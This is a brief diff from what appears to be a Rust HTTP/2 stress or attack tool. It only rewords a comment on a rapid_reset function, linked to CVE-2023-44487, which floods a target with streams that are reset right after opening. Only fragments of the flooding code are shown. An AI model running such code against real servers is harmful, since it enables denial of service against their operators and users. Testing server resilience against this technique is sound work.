@@ -24,7 +24,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// Streams that are opened and reset at once (CVE-2023-44487).
+/// Streams that are reset right after they are opened (CVE-2023-44487).
 pub(crate) async fn rapid_reset(target: Target) {
     flood(&target, |stream| {
         let mut frames = frame(HEADERS, END_STREAM_AND_HEADERS, stream, &GET);
